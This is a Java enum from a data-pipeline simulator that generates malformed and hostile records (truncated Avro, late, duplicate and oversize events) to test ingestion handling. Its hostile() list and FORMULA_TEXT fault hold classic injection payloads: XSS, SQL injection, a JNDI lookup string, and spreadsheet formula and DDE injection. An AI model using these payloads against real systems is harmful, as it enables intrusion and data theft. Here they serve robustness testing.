package io.throughline.scenarios.simulator;

import static java.nio.charset.StandardCharsets.UTF_8;

import io.throughline.scenarios.simulator.Wire.Form;
import io.throughline.schemas.Identifier;
import io.throughline.schemas.Survey;
import io.throughline.schemas.Touchpoint;
import java.io.ByteArrayOutputStream;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import org.jspecify.annotations.Nullable;

/**
 * Ways in which a record can be bad, or legal but hostile. Each knows the experiment it belongs to (B-01 to B-19) and the
 * fate the record should have: {@code processed}, {@code late}, {@code duplicate}, a reject reason, {@code rejected}
 * (any reason) or {@code any}.
 */
enum Fault {
    RANDOM_BYTES("B-01", "malformed", Set.of(Form.JSON, Form.AVRO), (good, wire, dice) -> noise(dice)),
    NOT_JSON("B-01", "malformed", Set.of(Form.JSON), (good, wire, dice) -> utf8("touchpoint=checkout; score=high")),
    EMPTY("B-01", "empty", Set.of(Form.AVRO), (good, wire, dice) -> new byte[0]),
    TOO_SHORT(
            "B-01",
            "malformed",
            Set.of(Form.AVRO),
            (good, wire, dice) -> Arrays.copyOf(wire.encode(good), dice.between(1, 4))),
    WRONG_MAGIC("B-01", "malformed", Set.of(Form.AVRO), (good, wire, dice) -> {
        byte[] bytes = wire.encode(good);
        // 1 is magic too: the registry's form with a GUID.
        bytes[0] = (byte) dice.between(2, 255);
        return bytes;
    }),
    JSON_IN_AVRO("B-01", "malformed", Set.of(Form.AVRO), (good, wire, dice) -> TouchpointJson.write(good)),
    TRUNCATED("B-02", "malformed", Set.of(Form.JSON, Form.AVRO), (good, wire, dice) -> {
        byte[] bytes = wire.encode(good);
        return Arrays.copyOf(bytes, dice.between(6, bytes.length - 1));
    }),
    TRAILING_BYTES("B-02", "malformed", Set.of(Form.AVRO), (good, wire, dice) -> {
        byte[] bytes = wire.encode(good);
        return Arrays.copyOf(bytes, bytes.length + dice.between(1, 40));
    }),
    BIT_FLIP("B-02", "any", Set.of(Form.AVRO), (good, wire, dice) -> {
        byte[] bytes = wire.encode(renamed(good, dice));
        bytes[dice.between(5, bytes.length - 1)] ^= (byte) (1 << dice.between(0, 7));
        return bytes;
    }),
    WRONG_TYPE(
            "B-02",
            "rejected",
            Set.of(Form.JSON),
            (good, wire, dice) -> utf8("{\"touchpoint_id\":\"" + id(dice)
                    + "\",\"event_time\":{},\"channel\":\"web\",\"kind\":\"page_view\",\"identifiers\":\"none\"}")),
    DEEP_NESTING("B-03", "malformed", Set.of(Form.JSON), (good, wire, dice) -> utf8("[".repeat(20_000))),
    HUGE_LENGTH("B-03", "malformed", Set.of(Form.AVRO), (good, wire, dice) -> {
        byte[] bytes = Arrays.copyOf(wire.encode(good), 15);
        // The length of the first string, zigzag varint: close to 2^31.
        byte[] length = {(byte) 0xFE, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, 0x0F, 'x', 'x', 'x', 'x', 'x'};
        System.arraycopy(length, 0, bytes, 5, length.length);
        return bytes;
    }),
    OVERSIZE("B-04", "oversize", Set.of(Form.JSON, Form.AVRO), (good, wire, dice) -> {
        Map<String, String> properties = new TreeMap<>(good.getProperties());
        properties.put("attachment", "x".repeat(1_100_000));
        return wire.encode(Touchpoint.newBuilder(renamed(good, dice))
                .setProperties(properties)
                .build());
    }),
    TOMBSTONE("B-05", "empty", Set.of(Form.AVRO), (good, wire, dice) -> null),
    UNKNOWN_SCHEMA("B-06", "unknown_schema", Set.of(Form.AVRO), (good, wire, dice) -> {
        byte[] bytes = wire.encode(good);
        bytes[1] = 0x7F;
        bytes[2] = (byte) 0xFF;
        return bytes;
    }),
    UNKNOWN_FIELD("B-06", "unknown_field", Set.of(Form.JSON), (good, wire, dice) -> {
        String json = new String(wire.encode(renamed(good, dice)), UTF_8);
        return utf8("{\"favourite_colour\":\"blue\"," + json.substring(1));
    }),
    LATE_BUT_IN_TIME(
            "B-07",
            "processed",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(moved(good, dice, Duration.ofHours(-dice.between(1, 72))))),
    TOO_LATE(
            "B-07",
            "late",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(moved(good, dice, Duration.ofDays(-dice.between(20, 300))))),
    SLIGHTLY_AHEAD(
            "B-08",
            "processed",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(moved(good, dice, Duration.ofSeconds(5)))),
    AN_HOUR_AHEAD(
            "B-08",
            "future_event_time",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(moved(good, dice, Duration.ofHours(1)))),
    YEARS_AHEAD(
            "B-08",
            "future_event_time",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(moved(good, dice, Duration.ofDays(73 * 365)))),
    CLOCK_OFF_BY_HOURS("B-09", "processed", Set.of(Form.JSON, Form.AVRO), (good, wire, dice) -> {
        Duration off = Duration.ofMinutes(dice.chance(0.5) ? dice.between(60, 720) : -dice.between(60, 720));
        return wire.encode(Touchpoint.newBuilder(renamed(good, dice))
                .setEventTime(received(good).minusSeconds(2).plus(off))
                .setSentTime(received(good).minusMillis(300).plus(off))
                .build());
    }),
    TIME_IN_WORDS("B-10", "invalid_value", Set.of(Form.JSON), (good, wire, dice) -> withTime(good, dice, "\"noon\"")),
    TIME_IN_MILLIS(
            "B-10",
            "processed",
            Set.of(Form.JSON),
            (good, wire, dice) ->
                    withTime(good, dice, "" + received(good).minusSeconds(1).toEpochMilli())),
    TIME_IN_SECONDS(
            "B-10",
            "any",
            Set.of(Form.JSON),
            (good, wire, dice) -> withTime(good, dice, "" + received(good).getEpochSecond())),
    TIME_MISSING(
            "B-10",
            "missing_field",
            Set.of(Form.JSON),
            (good, wire, dice) -> utf8("{\"touchpoint_id\":\"" + id(dice)
                    + "\",\"channel\":\"web\",\"kind\":\"page_view\",\"identifiers\":"
                    + "[{\"type\":\"cookie\",\"value\":\"ck-1\"}]}")),
    ID_MISSING(
            "B-10",
            "missing_field",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) ->
                    wire.encode(Touchpoint.newBuilder(good).setTouchpointId(" ").build())),
    IDENTIFIERS_MISSING(
            "B-10",
            "missing_field",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(Touchpoint.newBuilder(renamed(good, dice))
                    .setIdentifiers(List.of())
                    .build())),
    UNKNOWN_CHANNEL(
            "B-06",
            "any",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(Touchpoint.newBuilder(renamed(good, dice))
                    .setChannel("hologram")
                    .build())),
    DUPLICATE("B-13", "duplicate", Set.of(Form.JSON, Form.AVRO), (good, wire, dice) -> wire.encode(good)),
    DUPLICATE_LATER(
            "B-13",
            "duplicate",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(Touchpoint.newBuilder(good)
                    .setReceivedTime(received(good).plusSeconds(dice.between(1, 7200)))
                    .build())),
    JUNK_IDENTIFIERS(
            "B-14",
            "processed",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(by(
                    renamed(good, dice),
                    List.of(new Identifier("customer_number", "0000"), new Identifier("email", "test@test.com"))))),
    IDENTITY_STORM(
            "B-14",
            "processed",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(by(
                    renamed(good, dice),
                    List.of(
                            new Identifier("email", "storm" + dice.between(0, 999_999) + "@example.com"),
                            new Identifier("phone", "+18005550199"))))),
    HOT_CUSTOMER(
            "B-15",
            "processed",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) ->
                    wire.encode(by(renamed(good, dice), List.of(new Identifier("customer_number", "C-ROBOT-1"))))),
    SURVEY_OFF_SCALE(
            "B-16",
            "processed",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(Touchpoint.newBuilder(renamed(good, dice))
                    .setKind("survey_response")
                    .setSurvey(new Survey("nps", 0.0, 10.0, "higher_is_better", 11.0, null, null))
                    .build())),
    SURVEY_IN_WORDS(
            "B-16",
            "rejected",
            Set.of(Form.JSON),
            (good, wire, dice) -> utf8("{\"touchpoint_id\":\""
                    + id(dice) + "\",\"event_time\":\"" + good.getEventTime()
                    + "\",\"channel\":\"web\",\"kind\":\"survey_response\",\"identifiers\":"
                    + "[{\"type\":\"cookie\",\"value\":\"ck-1\"}],\"survey\":{\"metric\":\"csat\",\"scale_min\":1,"
                    + "\"scale_max\":5,\"score\":\"N/A\"}}")),
    NEGATIVE_WAIT(
            "B-16",
            "processed",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(
                    Touchpoint.newBuilder(renamed(good, dice)).setWaitMs(-1L).build())),
    HOSTILE_TEXT(
            "B-17",
            "processed",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(Touchpoint.newBuilder(renamed(good, dice))
                    .setProperties(Map.of("note", dice.pick(hostile())))
                    .setSurvey(new Survey("comment", 0.0, 1.0, null, 1.0, dice.pick(hostile()), null))
                    .build())),
    FORMULA_TEXT(
            "B-18",
            "processed",
            Set.of(Form.JSON, Form.AVRO),
            (good, wire, dice) -> wire.encode(Touchpoint.newBuilder(renamed(good, dice))
                    .setProduct("=HYPERLINK(\"http://example.com?\"&A1,\"open\")")
                    .setProperties(Map.of("note", "@SUM(1+1)*cmd|' /C calc'!A0"))
                    .build())),
    PROPERTY_EXPLOSION("B-19", "processed", Set.of(Form.JSON, Form.AVRO), (good, wire, dice) -> {
        Map<String, String> properties = new TreeMap<>();
        for (int i = 0; i < 300; i++) {
            properties.put("key_" + Device.hex(dice.next()), "v" + i);
        }
        return wire.encode(Touchpoint.newBuilder(renamed(good, dice))
                .setProperties(properties)
                .build());
    });

    /** Makes a bad record out of a good touchpoint; null is a tombstone. */
    @FunctionalInterface
    private interface Spoiling {
        byte @Nullable [] spoil(Touchpoint good, Wire wire, Dice dice);
    }

    final String experiment;
    final String expected;
    private final Set<Form> forms;
    private final Spoiling spoiling;

    Fault(String experiment, String expected, Set<Form> forms, Spoiling spoiling) {
        this.experiment = experiment;
        this.expected = expected;
        this.forms = forms;
        this.spoiling = spoiling;
    }

    String code() {
        return name().toLowerCase(Locale.ROOT);
    }

    boolean possibleIn(Form form) {
        return forms.contains(form);
    }

    /** A megabyte each: rarely. */
    double weight() {
        return this == OVERSIZE ? 0.05 : 1;
    }

    byte @Nullable [] spoil(Touchpoint good, Wire wire, Dice dice) {
        return spoiling.spoil(good, wire, dice);
    }

    private static List<String> hostile() {
        return List.of(
                "<script>alert('throughline')</script>",
                "<img src=x onerror=alert(1)>",
                "'; DROP TABLE customers; --",
                "\u202Eesrever ni\u202C \u0645\u0631\u062D\u0628\u0627",
                "👩‍👩‍👧‍👦🏳️‍🌈 𝒢𝓇𝑒𝒶𝓉 \uD83E\uDD26\uD83C\uDFFD",
                "tab\there, bell\u0007, null\u0000, line\nbreak, \u2028separator",
                "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
                "{{7*7}} ${jndi:ldap://example.com/a} %s%n");
    }

    private static byte[] noise(Dice dice) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        int length = dice.between(6, 200);
        // 0x80 and above first: neither a magic byte nor the beginning of JSON. Never a line break.
        bytes.write(dice.between(0x80, 0xFF));
        while (bytes.size() < length) {
            int next = dice.between(1, 255);
            bytes.write(next == '\n' || next == '\r' ? '?' : next);
        }
        return bytes.toByteArray();
    }

    private static byte[] withTime(Touchpoint good, Dice dice, String time) {
        return utf8("{\"touchpoint_id\":\"" + id(dice) + "\",\"event_time\":" + time + ",\"received_time\":\""
                + received(good)
                + "\",\"channel\":\"web\",\"kind\":\"page_view\",\"identifiers\":[{\"type\":\"cookie\",\"value\":\"ck-"
                + id(dice) + "\"}]}");
    }

    private static Touchpoint moved(Touchpoint good, Dice dice, Duration by) {
        return Touchpoint.newBuilder(renamed(good, dice))
                .setEventTime(received(good).plus(by))
                .setSentTime(null)
                .build();
    }

    private static Touchpoint by(Touchpoint touchpoint, List<Identifier> identifiers) {
        return Touchpoint.newBuilder(touchpoint).setIdentifiers(identifiers).build();
    }

    private static Touchpoint renamed(Touchpoint good, Dice dice) {
        return Touchpoint.newBuilder(good).setTouchpointId("bad-" + id(dice)).build();
    }

    private static Instant received(Touchpoint good) {
        Instant received = good.getReceivedTime();
        return received != null ? received : good.getEventTime();
    }

    private static String id(Dice dice) {
        return new UUID(dice.next(), dice.next()).toString();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(UTF_8);
    }
}
